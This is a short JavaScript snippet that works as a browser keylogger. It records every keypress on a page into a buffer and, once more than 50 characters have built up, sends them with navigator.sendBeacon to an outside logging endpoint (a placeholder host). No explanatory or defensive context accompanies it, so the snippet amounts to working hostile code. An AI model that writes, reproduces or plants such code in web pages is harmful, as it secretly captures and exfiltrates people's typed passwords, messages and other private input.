let buffer = '';
document.addEventListener('keydown', (event) => {
  buffer += event.key;
  if (buffer.length > 50) {
    navigator.sendBeacon('https://log.example.invalid/k', buffer);
    buffer = '';
  }
});
